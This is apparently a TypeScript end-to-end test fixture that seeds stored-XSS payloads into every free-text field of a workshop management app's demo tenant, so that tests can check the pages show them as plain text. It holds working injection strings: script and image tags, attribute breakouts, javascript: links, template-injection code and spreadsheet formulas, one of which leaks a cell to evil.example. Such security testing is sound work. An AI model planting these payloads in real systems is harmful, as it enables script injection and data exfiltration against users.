// The stored-XSS fixture of xss.e2e.ts: hostile text written through the API (as the desk, the advisor and
// the owner would write it) into every free-text field the three apps show, in the demo tenant.
//
// Every payload is built so that, if an app ever turned it into markup, the result is visible to the test
// without relying on script running (the Content-Security-Policy forbids inline handlers, which would hide
// an injection): each creates an element carrying `data-xss`, or an <img src=x>, <svg onload>, <script>,
// <iframe> or a javascript: link — xss.e2e.ts looks for all of them in the DOM of every page it opens.
import assert from 'node:assert/strict';
import type { Api } from './staff-api.ts';

/** Short enough for a 20-character field (tags, colour, province, VIP level …). */
export const short = {
  svg: '<svg onload=__xss=1>',
  img: '<img src=x data-xss>',
  formula: '=HYPERLINK("//x","y")',
} as const;

/** Fits 40 characters (staff names, service names, insurers, repair lines …). */
export const mid = {
  img: '<img src=x onerror=alert(1) data-xss>',
  script: '<script>__xss=1</script>',
  attr: '"><svg data-xss onload=alert(1)>',
  js: 'javascript:alert(1)//',
  template: '{{constructor.constructor("__xss=1")()}}'.slice(0, 40),
} as const;

/** Long fields (notes, concerns, summaries …): every trick at once. */
export const long = [
  mid.img,
  mid.script,
  mid.attr,
  '<iframe data-xss src="javascript:alert(1)"></iframe>',
  '<a data-xss href="javascript:alert(1)">点我</a>',
  "{{constructor.constructor('__xss=1')()}}",
  '${__xss=1}',
  '=HYPERLINK("http://evil.example/?"&A1,"查看")',
].join(' ');

/** Every payload: the pages must show at least one of them as text. */
export const allPayloads = [...Object.values(short), ...Object.values(mid), long];

export type Fixture = {
  customerId: string;
  customerPhone: string;
  vehicleId: string;
  /** The payload customer's visit (advisor board and visit page). */
  visitId: string;
  /** The demo owner's own visit, carrying payload estimate lines and status notes. */
  ownerVisitId: string;
  ownerVehicleId: string;
  storeId: string;
};

type Store = Record<string, unknown> & { id: string; code: string; name: string };
type Staff = { id: string; login: string; name: string };
type ServiceType = Record<string, unknown> & { id: string; name: string; code: string };
type Visit = { id: string; status: string; lines: { id: string; kind: string; description: string }[] };

const shanghaiStoreCode = 'SH-PD';
/** The demo owner's (13800000001) car, in the workshop when the demo starts. */
const ownerPlate = '沪AK2736';

/** The tenant, its store, staff and catalogue: names and addresses every app shows. */
const seedTenantText = async (admin: Api, storeId: string) => {
  const stores = await admin.get<{ items: Store[] }>('/stores');
  const store = stores.items.find((s) => s.id === storeId);
  assert.ok(store);
  const { id: _id, status: _s, createdAt: _c, updatedAt: _u, ...storeInput } = store;
  await admin.send('PUT', `/stores/${storeId}`, {
    ...storeInput,
    name: `${mid.img}店`,
    brand: mid.attr,
    province: short.svg,
    city: short.img,
    address: long.slice(0, 200),
  });

  const branding = await admin.get<Record<string, unknown>>('/tenant/branding');
  await admin.send('PUT', '/tenant/branding', {
    name: mid.script,
    shortName: '<b>S</b>"\'',
    primaryColor: branding.primaryColor,
    accentColor: branding.accentColor,
    dealerHotline: branding.dealerHotline ?? null,
    oemHotline: branding.oemHotline ?? null,
    logo: null,
  });

  const staff = await admin.get<{ items: Staff[] }>('/staff');
  const advisor = staff.items.find((s) => s.login === 'advisor');
  assert.ok(advisor);
  await admin.send('PATCH', `/staff/${advisor.id}`, { name: mid.attr });
  await admin.send('POST', `/staff/${advisor.id}/leave`, { date: '2099-01-05', note: long.slice(0, 100) });
  await admin.send('POST', `/stores/${storeId}/closures`, { date: '2099-01-06', reason: mid.img });
  await admin.send('PUT', '/tenant/calendar/days', { day: '2099-01-07', kind: 'closed', note: mid.script });

  const types = await admin.get<{ items: ServiceType[] }>('/service-types');
  for (const [i, t] of types.items.entries()) {
    const { id, ...input } = t;
    const names = [mid.img, mid.script, mid.attr, mid.template, mid.js];
    await admin.send('PUT', `/service-types/${id}`, {
      ...input,
      name: `${names[i % names.length] ?? ''}`.slice(0, 36) + `#${i}`,
      bring: long.slice(0, 200),
    });
  }
};

/** A customer with every free-text field hostile, a car, a call, a complaint and a repair order. */
const seedCustomer = async (admin: Api, storeId: string, advisorId: string) => {
  // Unique per run, so the fixture can be written again into a running demo while it is being developed.
  const serial = String(Date.now()).slice(-6);
  const phone = `1391${serial}0`;
  const customer = await admin.send<{ id: string }>('POST', '/customers', {
    name: mid.img,
    phones: [phone],
    source: 'walk_in',
    contactName: mid.attr,
    contactTitle: mid.script,
    email: 'xss@example.com',
    occupation: mid.template,
    tags: [short.svg, short.img, short.formula.slice(0, 20)],
    notes: long,
    vipLevel: short.svg,
    preferences: { [short.img]: long.slice(0, 200) },
    addresses: [{ kind: 'home', text: long.slice(0, 200) }],
    secondContact: { name: mid.img, relation: short.svg, phone: `1391${serial}1` },
    homeStoreId: storeId,
    serviceAdvisorId: advisorId,
  });
  // A second customer whose name and notes start like spreadsheet formulas (the export test reads them back).
  await admin.send('POST', '/customers', {
    name: short.formula,
    phones: [`1391${serial}2`],
    source: 'walk_in',
    tags: ['+1+1', '-1+1', '@SUM(1)'],
    notes: '=1+2',
    homeStoreId: storeId,
  });
  const vehicle = await admin.send<{ id: string }>('POST', '/vehicles', {
    ownerId: customer.id,
    vin: withCheckDigit(`LFV2A21K0J3${serial}`),
    plate: `沪A${serial.slice(-5)}`,
    colour: short.svg,
    insurer: mid.img,
    insurancePolicyNo: mid.attr,
    regularDrivers: [{ name: mid.script, phone: null, relation: short.img }],
  });
  await admin.send('POST', `/customers/${customer.id}/interactions`, {
    channel: 'phone',
    summary: long,
    promise: long.slice(0, 500),
  });
  const complaint = await admin.send<{ id: string }>('POST', `/customers/${customer.id}/complaints`, {
    category: 'repair_time',
    channel: 'phone',
    vehicleId: vehicle.id,
    summary: long,
  });
  // Issue 15: a case closes through its stages (each with hostile text), with an improvement item.
  const me = await admin.get<{ staff: { id: string } }>('/auth/staff/me');
  const step = (action: string, body: object) => admin.send('POST', `/complaints/${complaint.id}/${action}`, body);
  await step('contact', { note: long.slice(0, 2000) });
  await step('assign', { handlerId: me.staff.id, note: mid.attr });
  await step('accept', {});
  await step('answer', { answer: long.slice(0, 2000) });
  await step('resolve', { solution: mid.script, completionDate: '2026-01-12' });
  await step('follow-up', { satisfied: true, note: mid.img });
  await admin.send('POST', `/complaints/${complaint.id}/close`, {
    resolution: long.slice(0, 2000),
    improvements: [{ what: mid.script.slice(0, 500), ownerId: me.staff.id, due: '2026-12-31' }],
  });
  await admin.send('POST', '/repair-orders', {
    number: `${mid.img.slice(0, 32)}${serial}`,
    vehicleId: vehicle.id,
    storeId,
    type: 'maintenance',
    dateIn: '2026-01-10T02:00:00Z',
    technician: mid.attr,
    lines: [{ kind: 'labour', description: mid.script, partNo: short.formula, amountFen: 10000 }],
  });
  return { customerId: customer.id, vehicleId: vehicle.id, phone };
};

const vinValues: Record<string, number> = Object.fromEntries(
  [...'ABCDEFGHJKLMNPRSTUVWXYZ'].map((c, i) => [
    c,
    [1, 2, 3, 4, 5, 6, 7, 8, 1, 2, 3, 4, 5, 7, 9, 2, 3, 4, 5, 6, 7, 8, 9][i] ?? 0,
  ]),
);
const vinWeights = [8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2];

/** A VIN with its ninth character set to the ISO 3779 check digit. */
const withCheckDigit = (vin: string) => {
  const sum = [...vin].reduce(
    (acc, c, i) => acc + (/\d/.test(c) ? Number(c) : (vinValues[c] ?? 0)) * (vinWeights[i] ?? 0),
    0,
  );
  const digit = sum % 11 === 10 ? 'X' : String(sum % 11);
  return vin.slice(0, 8) + digit + vin.slice(9);
};

type Availability = { days: { date: string; slots: { startsAt: string; free: number }[] }[] };

/** A desk booking for the payload customer's car in the next free slot, with hostile concerns and pickup address. */
const seedBooking = async (admin: Api, ids: { storeId: string; customerId: string; vehicleId: string }) => {
  const types = await admin.get<{ items: ServiceType[] }>('/service-types');
  const serviceTypeId = types.items[0]?.id ?? '';
  const tomorrow = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Asia/Shanghai' }).format(Date.now() + 86_400_000);
  const free = await admin.get<Availability>(
    `/stores/${ids.storeId}/availability?from=${tomorrow}&days=3&serviceTypeId=${serviceTypeId}`,
  );
  const slot = free.days.flatMap((d) => d.slots).find((s) => s.free > 0);
  assert.ok(slot, 'a free slot in the next three days');
  await admin.send('POST', '/bookings', {
    ...ids,
    serviceTypeId,
    startsAt: slot.startsAt,
    advisorId: null,
    concerns: long.slice(0, 500),
    pickup: { address: long.slice(0, 200), windowStart: '08:00', windowEnd: '09:00', contactPhone: null },
    channel: 'phone',
    confirmClash: true,
  });
};

const hostileLines = [
  { kind: 'labour', description: mid.img, partNo: null, amountFen: 20000 },
  { kind: 'part', description: mid.attr, partNo: mid.script, amountFen: 30000 },
  { kind: 'part', description: short.formula, partNo: short.formula, amountFen: 1000 },
];

/** The payload customer, checked in by the advisor with hostile concerns, notes, estimate and status note. */
const seedCustomerVisit = async (admin: Api, advisor: Api, storeId: string, advisorId: string) => {
  const { customerId, vehicleId, phone } = await seedCustomer(admin, storeId, advisorId);
  const visit = await advisor.send<Visit>('POST', '/visits', {
    customerId,
    vehicleId,
    storeId,
    mileageKm: 12000,
    concerns: long,
    inspectionNotes: long,
  });
  await advisor.send('PUT', `/visits/${visit.id}/estimate`, { lines: hostileLines });
  await advisor.send('POST', `/visits/${visit.id}/status`, { status: 'in_bay', note: long.slice(0, 500) });
  await seedBooking(admin, { storeId, customerId, vehicleId });
  return { customerId, vehicleId, phone, visit };
};

/** The demo owner's car is in the bay: its estimate and a status note carry payloads the owner sees. */
const seedOwnerVisit = async (advisor: Api) => {
  type Board = { inProgress: { id: string; plate: string | null }[] };
  const board = await advisor.get<Board>('/visits/board');
  const open = board.inProgress.find((v) => v.plate === ownerPlate);
  assert.ok(open, 'the demo owner has a car in the workshop');
  const ownerVisit = await advisor.get<Visit & { vehicle: { id: string } }>(`/visits/${open.id}`);
  // The estimate input is the draft: lines already sent to the owner stay as they are.
  await advisor.send('PUT', `/visits/${open.id}/estimate`, { lines: hostileLines });
  await advisor.send('POST', `/visits/${open.id}/estimate/send`, undefined);
  await advisor.send('POST', `/visits/${open.id}/status`, {
    status: ownerVisit.status === 'in_bay' ? 'waiting_parts' : 'in_bay',
    note: long.slice(0, 500),
  });
  return ownerVisit;
};

/** Names an admin gives integrations: an import source, a telematics integration, a webhook endpoint. */
const seedIntegrations = async (admin: Api) => {
  await admin.send('POST', '/import-sources', { name: mid.img });
  await admin.send('POST', '/telematics/integrations', { name: mid.attr, provider: mid.script });
  await admin.send('POST', '/webhooks/endpoints', {
    url: 'https://hooks.example.com/<img src=x data-xss>',
    description: long.slice(0, 200),
    events: ['customer.created'],
  });
};

/** Writes the fixture; returns the ids the pages are opened with. */
export const seedXss = async (admin: Api, advisor: Api): Promise<Fixture> => {
  const stores = await admin.get<{ items: Store[] }>('/stores');
  const storeId = stores.items.find((s) => s.code === shanghaiStoreCode)?.id ?? '';
  const staff = await admin.get<{ items: Staff[] }>('/staff');
  const advisorId = staff.items.find((s) => s.login === 'advisor')?.id ?? '';
  assert.ok(storeId && advisorId);

  // Three independent strands, written side by side to keep the suite short.
  const [customer, ownerVisit] = await Promise.all([
    seedCustomerVisit(admin, advisor, storeId, advisorId),
    seedOwnerVisit(advisor),
    seedTenantText(admin, storeId).then(() => seedIntegrations(admin)),
  ]);
  const { customerId, vehicleId, phone, visit } = customer;
  return {
    customerId,
    customerPhone: phone,
    vehicleId,
    visitId: visit.id,
    ownerVisitId: ownerVisit.id,
    ownerVehicleId: ownerVisit.vehicle.id,
    storeId,
  };
};
